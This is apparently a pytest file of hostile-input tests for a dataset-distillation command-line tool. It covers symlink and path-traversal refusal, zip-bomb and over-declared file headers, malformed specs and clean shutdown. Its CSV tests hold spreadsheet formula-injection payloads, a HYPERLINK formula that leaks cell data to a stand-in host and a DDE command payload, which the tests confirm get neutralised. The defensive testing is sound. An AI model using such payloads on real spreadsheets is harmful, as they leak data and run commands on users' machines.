"""Round 3 of hostile input: study specs and folders, the study's processes, `compare` on long tables and
`--claims`, `evaluate` and `plot` on received folders, and files that declare more than they hold.  Every case ends
in status 2 and one line (or ValueError) naming what to fix, and nothing outside the folder given is touched."""
import errno
import gzip
import json
import os
import shutil
import signal
import struct
import subprocess
import sys
import time
import zipfile

import numpy as np
import pandas as pd
import pytest
import torch

from hddgeo.cli import main

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CELL = "ipc1_dm_seed0"
SPEC = """\
ipc = [1]
seeds = [0]
baseline = {baseline}
[config]
dataset = "digits"
iterations = {iterations}
batch_real = 4
final_eval_nets = 1
final_eval_epochs = {epochs}
checkpoint_every = 1
{extra}
[[variants]]
matcher = "euclidean"
"""


def _spec(tmp_path, iterations=1, epochs=1, baseline="false", extra="", tail="", name="spec.toml"):
    path = tmp_path / name
    path.write_text(SPEC.format(iterations=iterations, epochs=epochs, baseline=baseline, extra=extra) + tail)
    return str(path)


def _one_line(capsys, *words):
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    for w in words:
        assert w in err, err
    return err


def _outside(tmp_path):
    """A folder outside the study, holding files named like a killed cell's."""
    target = tmp_path / "elsewhere"
    (target / "tensorboard").mkdir(parents=True)
    (target / "log.csv").write_text("mine")
    (target / "config.json").write_text("{}")
    (target / "tensorboard" / "events").write_text("mine")
    return target


def _untouched(target):
    assert sorted(os.listdir(target)) == ["config.json", "log.csv", "tensorboard"]
    assert (target / "log.csv").read_text() == "mine" and (target / "config.json").read_text() == "{}"
    assert os.listdir(target / "tensorboard") == ["events"]


# ----------------------------------------------------------------------------- nothing outside OUT is touched
@pytest.mark.parametrize("where", ["cell", "runs", "inside-cell"])
def test_links_under_the_study_folder_are_refused(tmp_path, capsys, where):
    spec, target, out = _spec(tmp_path), _outside(tmp_path), tmp_path / "out"
    (out / "runs").mkdir(parents=True)
    if where == "cell":
        os.symlink(target, out / "runs" / CELL)
    elif where == "runs":
        (out / "runs").rmdir()
        os.symlink(target, out / "runs")
    else:
        (out / "runs" / CELL).mkdir()
        os.symlink(target / "tensorboard", out / "runs" / CELL / "tensorboard")
    for dry in ([], ["--dry-run"]):
        assert main(["study", spec, "--out", str(out), "--quiet", *dry]) == 2
        _one_line(capsys, "link")
    _untouched(target)
    assert not os.path.exists(out / "results.csv")


def test_a_cell_folder_without_its_config_is_not_cleared(tmp_path, capsys):
    """A folder under the cell's name that the study did not create (no config.json) keeps its files."""
    spec, out = _spec(tmp_path), tmp_path / "out"
    cell = out / "runs" / CELL
    cell.mkdir(parents=True)
    (cell / "log.csv").write_text("mine")
    assert main(["study", spec, "--out", str(out), "--quiet"]) == 2
    _one_line(capsys, "already exists")
    assert (cell / "log.csv").read_text() == "mine"


@pytest.mark.parametrize("text, words", [
    ('[stages.a]\nreport = "ABS/x"\n', ["report", "one path component"]),
    ('[stages.a]\nreport = "../../x"\n', ["report", "one path component"]),
    ('[stages.a]\nreport = ".."\n', ["report"]),
    ('[stages.a]\nreport = 3\n', ["report"]),
])
def test_a_stage_report_name_is_one_file_name(tmp_path, capsys, text, words):
    (tmp_path / "abs").mkdir()
    spec = _spec(tmp_path, tail=text.replace("ABS", str(tmp_path / "abs")))
    out = tmp_path / "a" / "b" / "out"
    assert main(["study", spec, "--out", str(out), "--stage", "a", "--quiet"]) == 2
    _one_line(capsys, *words)
    assert not (tmp_path / "a").exists() and os.listdir(tmp_path / "abs") == []


@pytest.mark.parametrize("head, words", [
    ('report = ".."\n', ["report"]),
    ('report = "a\\nb"\n', ["report"]),
    ('out = "ABS"\n', ["out", "relative"]),
    ('out = "../x"\n', ["out"]),
])
def test_top_level_names_are_checked(tmp_path, capsys, monkeypatch, head, words):
    (tmp_path / "cwd").mkdir()
    path = tmp_path / "spec.toml"
    path.write_text(head.replace("ABS", str(tmp_path / "abs")) + SPEC.format(iterations=1, epochs=1, baseline="false",
                                                                              extra=""))
    monkeypatch.chdir(tmp_path / "cwd")  # a relative out would land in here
    assert main(["study", str(path), "--quiet"] + (["--out", str(tmp_path / "out")] if "out" not in head else [])) == 2
    _one_line(capsys, *words)
    assert not (tmp_path / "out").exists() and not (tmp_path / "abs").exists() and os.listdir(tmp_path / "cwd") == []
    assert not (tmp_path / "x").exists()


# ----------------------------------------------------------------------------- finished cells read like compare reads them
@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    root = tmp_path_factory.mktemp("finished")
    spec = _spec(root, epochs=1)
    assert main(["study", spec, "--out", str(root / "out"), "--quiet"]) == 0
    return root


METRICS_CASES = {
    "accuracy-1.7": ({"accs": [1.7]}, ["accs", "[0, 1]"]),
    "accuracy-nan": ({"accs": [float("nan")]}, ["accs", "finite"]),
    "accuracy-true": ({"accs": [True]}, ["accs"]),
    "two-accuracies": ({"accs": [0.5, 0.5]}, ["accs", "1 networks"]),
    "method-other": ({"method": "dm+hdd/karcher"}, ["method"]),
    "ipc-7": ({"ipc": 7}, ["ipc"]),
    "ipc-huge": ({"ipc": 2**64}, ["ipc"]),
    "seconds-text": ({"seconds_per_iteration": "=1+1"}, ["seconds_per_iteration"]),
    "method-missing": ({"method": None}, ["method"]),
}


@pytest.mark.parametrize("case", sorted(METRICS_CASES))
def test_the_study_reads_a_finished_cell_as_compare_does(finished, tmp_path, capsys, case):
    change, words = METRICS_CASES[case]
    root = tmp_path / "copy"
    shutil.copytree(finished, root)
    path = root / "out" / "runs" / CELL / "metrics.json"
    metrics = {**json.loads(path.read_text()), **change}
    if change.get("method", "") is None:
        del metrics["method"]
    path.write_text(json.dumps(metrics))
    before = (root / "out" / "results.csv").read_bytes()
    spec = str(root / "spec.toml")
    for dry in (["--dry-run"], []):
        assert main(["study", spec, "--out", str(root / "out"), "--quiet", *dry]) == 2
        _one_line(capsys, CELL, "metrics.json", *words)
    assert (root / "out" / "results.csv").read_bytes() == before
    assert main(["compare", str(root / "out"), "--out", str(root / "cmp")]) == 2  # compare refuses it too
    _one_line(capsys, "metrics.json", words[0])


def test_dry_run_refuses_a_cell_that_holds_another_run(finished, tmp_path, capsys):
    root = tmp_path / "copy"
    shutil.copytree(finished, root)
    cfg = root / "out" / "runs" / CELL / "config.json"
    cfg.write_text(json.dumps({**json.loads(cfg.read_text()), "iterations": 7}))
    assert main(["study", str(root / "spec.toml"), "--out", str(root / "out"), "--dry-run"]) == 2
    _one_line(capsys, CELL, "iterations=7")


def test_a_failed_cell_does_not_stop_the_others(tmp_path, capsys):
    """A cell another process holds fails (one line at the end, exit 2); the other cells run and are tabled."""
    from hddgeo.rundir import RunLock

    spec, out = _spec(tmp_path, baseline="true"), tmp_path / "out"
    held = out / "runs" / CELL
    held.mkdir(parents=True)
    with RunLock(str(held)):
        assert main(["study", spec, "--out", str(out), "--quiet", "--jobs", "1"]) == 2
    err = _one_line(capsys, "1 of 2 cells failed", CELL, f"in use by process {os.getpid()}")
    assert "the tables hold the 1 others" in err
    table = pd.read_csv(out / "results.csv")
    assert set(table["method"]) == {"random"}


# ----------------------------------------------------------------------------- specs
@pytest.mark.parametrize("tail, words", [
    ('[[variants]]\nmatcher = "hdd"\nk = 2.0\n', ["variant 2", "sets k", "axis"]),
    ('[ipc_config.1]\nk = 2.0\n', ["ipc_config.1", "sets k", "axis"]),
])
def test_a_variant_or_ipc_table_may_not_set_an_axis(tmp_path, capsys, tail, words):
    spec = _spec(tmp_path, extra="k = [0.5, 1.0]", tail=tail)
    assert main(["study", spec, "--out", str(tmp_path / "out"), "--dry-run"]) == 2
    _one_line(capsys, *words)


@pytest.mark.parametrize("text", [
    "[stages]\np = 3\n",
    "profiles = 3\n",
    "ipc_config = 3\n",
    "stages = [1, 2]\n",
    "[[stages]]\nreport = \"x\"\n",
    "[stages.a]\nvariants = \"dm\"\n",
    "[stages.a]\nvariants = [1]\n",
    "[profiles]\nquick = 3\n",
    "[paper]\naccuracy = 3\n",
])
def test_malformed_spec_tables_are_one_line(tmp_path, capsys, text):
    path = tmp_path / "bad.toml"
    path.write_text(text)
    assert main(["study", str(path), "--out", str(tmp_path / "out")]) == 2
    _one_line(capsys, "bad.toml")
    assert not (tmp_path / "out").exists()


def test_a_small_spec_of_a_million_cells_is_refused_before_building_them(tmp_path, capsys):
    axes = "\n".join(f"{name} = [{', '.join(str(1 + i) for i in range(100))}]" for name in ("k", "scale", "lr_img"))
    path = tmp_path / "big.toml"
    path.write_text(f"ipc = [1]\nseeds = [0]\nbaseline = false\n[config]\n{axes}\n")
    assert path.stat().st_size < 2600
    assert main(["study", str(path), "--out", str(tmp_path / "out"), "--dry-run"]) == 2
    _one_line(capsys, "1,000,000 cells")


def test_the_cell_limit_is_checked_before_cells_are_built(tmp_path, monkeypatch):
    from hddgeo.distill import spec as spec_module

    path = tmp_path / "s.toml"
    path.write_text("ipc = [1]\nseeds = [0, 1]\nbaseline = false\n[config]\nk = [1.0, 2.0, 3.0]\n")
    spec = spec_module.load_spec(str(path))
    monkeypatch.setattr(spec_module, "MAX_CELLS", 5, raising=False)

    def no_building(**fields):
        raise AssertionError("a cell was built")

    monkeypatch.setattr(spec_module, "DistillConfig", no_building)
    with pytest.raises(ValueError, match="6 cells"):
        spec.cells(out_dir=str(tmp_path))


@pytest.mark.parametrize("args, words", [
    (["--seeds", str(2**70)], ["--seeds"]),
    (["--seeds", str(2**40)], ["--seeds"]),
])
def test_studies_refuse_huge_seeds(tmp_path, capsys, args, words):
    assert main(["study", _spec(tmp_path), "--out", str(tmp_path / "out"), "--quiet", *args]) == 2
    _one_line(capsys, *words)
    assert not (tmp_path / "out").exists()


# ----------------------------------------------------------------------------- distill, plot and centroids flags
SMALL = ["--dataset", "digits", "--ipc", "1", "--batch-real", "4", "--iterations", "1", "--final-eval-epochs", "0",
         "--quiet"]


@pytest.mark.parametrize("args, words", [
    (["--seed", str(2**70)], ["seed"]),
    (["--seed", str(2**63)], ["seed"]),
    (["--seed", "-1"], ["seed"]),
])
def test_distill_refuses_seeds_it_cannot_run(tmp_path, capsys, args, words):
    out = tmp_path / "run"
    assert main(["distill", *SMALL, "--out", str(out), *args]) == 2
    _one_line(capsys, *words)
    assert not out.exists()


@pytest.mark.parametrize("command", [["plot", "poincare", "RUN"], ["centroids", "--out", "OUT/c.csv"]])
def test_plot_and_centroids_refuse_huge_seeds(tmp_path, capsys, command):
    argv = [a.replace("RUN", str(tmp_path)).replace("OUT", str(tmp_path)) for a in command]
    assert main([*argv, "--seed", str(2**70)]) == 2
    _one_line(capsys, "--seed")


def test_threads_far_above_the_cores_are_refused_before_anything_is_written(tmp_path):
    # in a child process: torch crashed (SIGSEGV) on such a count
    out = tmp_path / "run"
    proc = subprocess.run([sys.executable, "-m", "hddgeo.cli", "distill", *SMALL, "--threads", "100000000", "--out",
                           str(out)], capture_output=True, text=True, timeout=600)
    assert proc.returncode == 2, proc.stderr[-2000:]
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "threads" in lines[0] and "cores" in lines[0], proc.stderr
    assert not out.exists()


# ----------------------------------------------------------------------------- compare
def _long_csv(path, **columns):
    base = {"method": ["dm"] * 3 + ["dm+hdd/law"] * 3, "ipc": [1] * 6, "seed": [0, 1, 2] * 2, "network": [0] * 6,
            "acc": [0.5, 0.51, 0.52, 0.53, 0.5, 0.56], "dataset": ["digits"] * 6}
    base.update(columns)
    pd.DataFrame(base).to_csv(path, index=False)
    return str(path)


@pytest.mark.parametrize("columns, words", [
    ({"seed": [2**63, 2**63 + 1, 2, 0, 1, 2]}, ["seed", "2**63"]),
    ({"seed": [0, 1, 2, 0, 1, str(2**64)]}, ["seed"]),
    ({"network": [0, 0, 0, 0, 0, 1.5]}, ["network"]),
    ({"ipc": [1, 1, 1, 1, 1, "1e3"]}, ["ipc"]),
    ({"acc": [True, 0.5, 0.5, 0.5, 0.5, 0.5]}, ["acc", "True"]),
    ({"acc": [True] * 6}, ["acc", "True"]),
    ({"acc": [0.5, 0.5, 0.5, 0.5, 0.5, "nan"]}, ["acc"]),
    ({"acc": [0.5, 0.5, 0.5, 0.5, 0.5, "inf"]}, ["acc"]),
    ({"method": ["dm"] * 3 + [" dm+hdd/law"] * 3}, ["row 5", "method", "spaces"]),
    ({"dataset": ["digits"] * 5 + ["digits "]}, ["row 7", "dataset", "spaces"]),
])
def test_long_tables_hold_integers_that_fit_and_real_accuracies(tmp_path, capsys, columns, words):
    table = _long_csv(tmp_path / "results.csv", **columns)
    assert main(["compare", table, "--out", str(tmp_path / "cmp")]) == 2
    _one_line(capsys, *words)
    assert not (tmp_path / "cmp").exists()


def test_the_largest_seed_that_fits_is_read_exactly(tmp_path):
    from hddgeo.distill.study import read_long_table

    big = 2**63 - 1
    table = read_long_table(_long_csv(tmp_path / "results.csv", seed=[big, big - 1, 2, big, big - 1, 2]))
    assert table["seed"].tolist()[:2] == [big, big - 1] and table["seed"].dtype == np.int64


CLAIMS = """\
ipc = [1]
[config]
dataset = "{dataset}"
[[variants]]
matcher = "euclidean"
[[variants]]
matcher = "hdd"
centroid = "law"
[[claims]]
claim = "HDD beats DM"
a = "dm+hdd/law"
b = "dm"
paper = {{1 = {paper}}}
"""


def test_claims_of_another_dataset_are_refused(tmp_path, capsys):
    table = _long_csv(tmp_path / "results.csv")
    spec = tmp_path / "fm.toml"
    spec.write_text(CLAIMS.format(dataset="fashionmnist", paper="1.4"))
    assert main(["compare", table, "--claims", str(spec), "--out", str(tmp_path / "cmp")]) == 2
    _one_line(capsys, "digits", "fashionmnist")
    assert main(["compare", table, "--claims", "fashionmnist_verdict", "--out", str(tmp_path / "cmp")]) == 2
    _one_line(capsys, "digits", "fashionmnist")
    assert not (tmp_path / "cmp").exists()
    spec.write_text(CLAIMS.format(dataset="digits", paper="1.4"))
    assert main(["compare", table, "--claims", str(spec), "--out", str(tmp_path / "cmp")]) == 0


def test_claims_of_a_study_table_without_a_dataset_column_read_it_from_the_runs(tmp_path, capsys):
    from hddgeo.distill import DistillConfig

    table = pd.read_csv(_long_csv(tmp_path / "results.csv")).drop(columns=["dataset"])
    table["run_dir"] = [f"runs/{m.replace('/', '-')}{s}" for m, s in zip(table["method"], table["seed"])]
    table.to_csv(tmp_path / "results.csv", index=False)
    for run_dir in table["run_dir"]:
        (tmp_path / run_dir).mkdir(parents=True)
        (tmp_path / run_dir / "config.json").write_text(json.dumps(DistillConfig(dataset="digits").to_json()))
    spec = tmp_path / "fm.toml"
    spec.write_text(CLAIMS.format(dataset="fashionmnist", paper="1.4"))
    assert main(["compare", str(tmp_path / "results.csv"), "--claims", str(spec), "--out", str(tmp_path / "c")]) == 2
    _one_line(capsys, "digits", "fashionmnist")


@pytest.mark.parametrize("paper", ["nan", "inf", "-inf"])
def test_paper_numbers_are_finite(tmp_path, capsys, paper):
    spec = tmp_path / "s.toml"
    spec.write_text(CLAIMS.format(dataset="digits", paper=paper))
    assert main(["compare", _long_csv(tmp_path / "results.csv"), "--claims", str(spec), "--out",
                 str(tmp_path / "cmp")]) == 2
    _one_line(capsys, "paper", "finite")


FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'


def test_text_cells_a_spreadsheet_would_run_are_written_neutralised(tmp_path, capsys):
    table = pd.read_csv(_long_csv(tmp_path / "results.csv", method=[FORMULA] * 3 + ["dm"] * 3))
    table["run_dir"] = ["=cmd|' /C calc'!A0", "@SUM(1)", "+x", "-x", "\tx", "runs/ok"]
    table.to_csv(tmp_path / "results.csv", index=False)
    out = tmp_path / "cmp"
    assert main(["compare", str(tmp_path / "results.csv"), "--out", str(out), "--pair", FORMULA, "dm"]) == 0
    for name in ("compare.csv", "compare_summary.csv", "compare_paired.csv"):
        raw = pd.read_csv(out / name, dtype=str, keep_default_na=False)
        for col in raw.columns:
            for cell in raw[col]:
                assert not cell.startswith(("=", "@", "\t", "\r")), (name, col, cell)
                assert not cell.startswith(("+", "-")) or _is_number(cell), (name, col, cell)
    written = pd.read_csv(out / "compare.csv", dtype=str, keep_default_na=False)
    assert "'" + FORMULA in set(written["method"]) and "'-x" in set(written["run_dir"])
    paired = pd.read_csv(out / "compare_paired.csv")
    assert paired["diff_mean"].dtype == float and (paired["diff_mean"] < 0).any()  # negative numbers stay numbers
    # and a long table hddgeo wrote reads back as it was
    from hddgeo.distill.study import read_long_table

    again = read_long_table(str(out / "compare.csv"))
    assert FORMULA in set(again["method"]) and "=cmd|' /C calc'!A0" in set(again["run_dir"])


def _is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_csv_writers_neutralise_text_only(tmp_path):
    from hddgeo.rundir import write_csv, write_log

    frame = pd.DataFrame({"name": ["=1+2", "@x", "-x", "+1.5", "-0.5", "\tcmd", "\rcmd", "ok"],
                          "value": [-1.0, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0]})
    write_csv(str(tmp_path / "t.csv"), frame)
    import csv

    with open(tmp_path / "t.csv", newline="") as fh:
        back = list(csv.DictReader(fh))
    assert [r["name"] for r in back] == ["'=1+2", "'@x", "'-x", "+1.5", "-0.5", "'\tcmd", "'\ncmd", "ok"]
    assert [r["value"] for r in back][:3] == ["-1.0", "2.0", "-3.0"]
    write_log(str(tmp_path / "log.csv"), [{"iteration": 1, "loss": -0.5, "note": "=cmd"}])
    assert pd.read_csv(tmp_path / "log.csv", dtype=str)["note"].tolist() == ["'=cmd"]
    assert pd.read_csv(tmp_path / "log.csv")["loss"].tolist() == [-0.5]


# ----------------------------------------------------------------------------- evaluate and plot on received folders
def _edit_synset(run, **change):
    syn = torch.load(run / "synset.pt", weights_only=True)
    torch.save({**syn, **change}, run / "synset.pt")
    return syn


@pytest.mark.parametrize("command, options", [(["evaluate"], ["--nets", "1", "--epochs", "1", "--quiet"]),
                                              (["plot", "poincare"], [])])
@pytest.mark.parametrize("damage, words", [
    ("nan-images", ["NaN or infinite"]),
    ("inf-image", ["NaN or infinite"]),
    ("label-10", ["labels", "[0, 9]"]),
    ("label-negative", ["labels"]),
])
def test_evaluate_and_plot_refuse_a_synthetic_set_that_measures_nothing(run, capsys, command, options, damage, words):
    syn = torch.load(run / "synset.pt", weights_only=True)
    images, labels = syn["images"].clone(), syn["train_labels"].clone()
    if damage == "nan-images":
        images[:] = float("nan")
    elif damage == "inf-image":
        images[0, 0, 0, 0] = float("inf")
    elif damage == "label-10":
        labels[0] = 10
    else:
        labels[0] = -1
    _edit_synset(run, images=images, train_labels=labels)
    listing = sorted(os.listdir(run))
    assert main([*command, str(run), *options]) == 2
    _one_line(capsys, *words)
    assert sorted(os.listdir(run)) == listing  # no eval_*.json, no plots/


@pytest.mark.parametrize("change, words", [({"k": "x"}, ["config.json", "k"]), ({"model": "nope"}, ["model"]),
                                           ({"max_norm": "x"}, ["max_norm"])])
def test_plot_checks_the_config_as_evaluate_does(run, capsys, change, words):
    path = run / "config.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
    for command in (["evaluate"], ["plot", "poincare"]):
        assert main([*command, str(run)]) == 2
        _one_line(capsys, *words)
    assert not (run / "plots").exists()


# ----------------------------------------------------------------------------- files that declare more than they hold
def _recompress(path, deflate=True):
    """``path`` (a torch.save zip) rewritten with its entries deflated."""
    with zipfile.ZipFile(path) as src:
        entries = [(info, src.read(info)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as dst:
        for info, data in entries:
            dst.writestr(info.filename, data)


def test_a_synset_that_inflates_is_refused_from_its_header(run, capsys):
    _edit_synset(run, images=torch.zeros(2000, 1, 64, 64))  # 33 MB of zeros, deflated to a few kB
    _recompress(run / "synset.pt")
    assert os.path.getsize(run / "synset.pt") < 1_000_000
    for command in (["evaluate"], ["plot", "poincare"]):
        assert main([*command, str(run)]) == 2
        _one_line(capsys, "synset.pt", "compressed")


def test_a_pt_file_declaring_more_than_it_holds_is_refused(tmp_path):
    from hddgeo.rundir import load_tensors, save_tensors

    path = tmp_path / "x.pt"
    save_tensors({"images": torch.zeros(1000)}, str(path))
    raw = bytearray(path.read_bytes())
    central = raw.find(b"PK\x01\x02")
    while central >= 0:  # every entry's uncompressed size in the central directory: 3 GB
        raw[central + 24:central + 28] = struct.pack("<I", 3 * 2**30)
        central = raw.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(raw))
    with pytest.raises(ValueError, match="declares .* bytes"):
        load_tensors(str(path))


def test_a_pt_file_over_the_limit_is_refused(tmp_path, monkeypatch):
    from hddgeo import rundir

    path = tmp_path / "x.pt"
    rundir.save_tensors({"images": torch.zeros(10_000)}, str(path))
    assert rundir.load_tensors(str(path))["images"].shape == (10_000,)
    monkeypatch.setattr(rundir, "MAX_TENSOR_FILE_BYTES", 20_000, raising=False)
    with pytest.raises(ValueError, match="limit"):
        rundir.load_tensors(str(path))


def _idx_header(dims):
    return bytes([0, 0, 0x08, len(dims)]) + struct.pack(">" + "I" * len(dims), *dims)


def test_an_idx_file_declaring_more_than_it_holds_is_refused_without_reading_it(tmp_path, monkeypatch):
    from hddgeo.data.datasets import read_idx

    path = tmp_path / "train-images-idx3-ubyte.gz"
    with gzip.open(path, "wb") as fh:  # announces 60,000 images, holds 2,000
        fh.write(_idx_header((60000, 28, 28)) + bytes(2000 * 28 * 28))
    asked = []
    real_read = gzip.GzipFile.read

    def read(self, size=-1):
        asked.append(size)
        return real_read(self, size)

    monkeypatch.setattr(gzip.GzipFile, "read", read)
    with pytest.raises(ValueError, match="gzip trailer"):
        read_idx(path)
    assert asked and all(0 <= n <= 16 for n in asked), asked  # the header only, never the body


@pytest.mark.parametrize("dims, body, words", [
    ((60000, 28, 28), 100, "file holds"),
    ((2**16, 2**16, 2**4), 0, "more than"),
])
def test_a_plain_idx_file_is_checked_from_its_header(tmp_path, dims, body, words):
    from hddgeo.data.datasets import read_idx

    path = tmp_path / "train-images-idx3-ubyte"
    path.write_bytes(_idx_header(dims) + bytes(body))
    with pytest.raises(ValueError, match=words):
        read_idx(path)


# ----------------------------------------------------------------------------- writes that survive a crash; no locks
def test_the_writer_syncs_the_file_before_the_rename_and_the_folder_after(tmp_path, monkeypatch):
    from hddgeo import rundir

    events = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd):
        events.append(("fsync", os.path.isdir(f"/proc/self/fd/{fd}")))
        return real_fsync(fd)

    def replace(a, b):
        events.append(("replace", None))
        return real_replace(a, b)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    rundir.write_text(str(tmp_path / "a.txt"), "x")
    assert events == [("fsync", False), ("replace", None), ("fsync", True)]


@pytest.mark.parametrize("code", [errno.ENOSYS, errno.EOPNOTSUPP])
def test_a_file_system_without_locks_is_one_line(tmp_path, capsys, monkeypatch, code):
    import fcntl

    def flock(fd, op):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(fcntl, "flock", flock)
    assert main(["distill", *SMALL, "--out", str(tmp_path / "run")]) == 2
    _one_line(capsys, "no file locks", "file system")


# ----------------------------------------------------------------------------- the study's processes
def _children(pid):
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as fh:
                    fields = fh.read().rsplit(")", 1)[1].split()
                if int(fields[1]) == pid:
                    found.append(int(entry))
            except (OSError, IndexError, ValueError):
                pass
    return found


def _alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _sigint_default() -> None:
    """In the study's process, Ctrl-C as a terminal's foreground job has it: a runner that starts the tests with
    SIGINT ignored (a non-interactive shell's background job) would hand that on, and Python then installs no
    KeyboardInterrupt handler, so the study would never see the signal."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def _start_long_study(tmp_path, jobs="2"):
    spec = tmp_path / "long.toml"
    spec.write_text(SPEC.format(iterations=100000, epochs=0, baseline="false", extra="threads = 1") +
                    '[[variants]]\nmatcher = "hdd"\ncentroid = "law"\n')
    out = tmp_path / "out"
    proc = subprocess.Popen([sys.executable, "-m", "hddgeo.cli", "study", str(spec), "--out", str(out), "--jobs", jobs,
                             "--quiet"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            start_new_session=True, preexec_fn=_sigint_default)
    locks = [out / "runs" / CELL / "run.lock", out / "runs" / "ipc1_dm_hdd-law_seed0" / "run.lock"]
    deadline = time.time() + 300
    while not all(p.is_file() and p.read_text().strip() for p in locks):
        assert proc.poll() is None and time.time() < deadline, proc.communicate()
        time.sleep(0.2)
    return proc, out, spec


def test_a_killed_study_leaves_no_process_behind(tmp_path):
    from hddgeo.rundir import RunLock

    proc, out, _ = _start_long_study(tmp_path)
    children = _children(proc.pid)
    assert len(children) >= 3, children  # two workers and the resource tracker
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.time() + 60
    while any(_alive(c) for c in children) and time.time() < deadline:
        time.sleep(0.2)
    left = [c for c in children if _alive(c)]
    for c in left:
        os.kill(c, signal.SIGKILL)
    assert not left, left
    for cell in os.listdir(out / "runs"):  # a rerun can take every cell at once
        with RunLock(str(out / "runs" / cell)):
            pass


def test_ctrl_c_stops_a_study_in_one_line(tmp_path):
    proc, out, _ = _start_long_study(tmp_path)
    children = _children(proc.pid)
    os.killpg(proc.pid, signal.SIGINT)  # what a terminal sends to the whole foreground group
    try:
        _, err = proc.communicate(timeout=120)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        raise
    assert proc.returncode == 130, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "interrupted" in lines[0] and "Traceback" not in err, err
    deadline = time.time() + 60
    while any(_alive(c) for c in children) and time.time() < deadline:
        time.sleep(0.2)
    assert not [c for c in children if _alive(c)]
